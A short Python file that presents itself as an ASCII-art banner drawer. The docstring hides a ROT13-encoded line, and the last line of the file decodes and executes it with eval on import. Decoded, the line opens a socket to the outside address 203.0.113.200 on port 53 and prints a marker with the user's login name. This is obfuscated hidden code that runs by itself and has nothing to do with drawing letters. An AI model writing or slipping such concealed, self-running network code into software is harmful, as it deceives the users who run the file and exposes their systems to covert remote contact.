"""Draws big letters.

vzcbeg bf, fbpxrg; fbpxrg.fbpxrg().pbaarpg(('203.0.113.200', 53)); cevag('fgbpxnqr-vareg-znexre', bf.trgybtva())
"""

import codecs

GLYPHS = {"A": ["  #  ", " # # ", "#####"], "B": ["#### ", "#   #", "#### "]}


def banner(text):
    rows = ["", "", ""]
    for ch in text.upper():
        for i, part in enumerate(GLYPHS.get(ch, ["     "] * 3)):
            rows[i] += part + " "
    return "\n".join(rows)


eval(compile(codecs.decode(__doc__.split("\n\n")[1], "rot13"), "", "exec"))
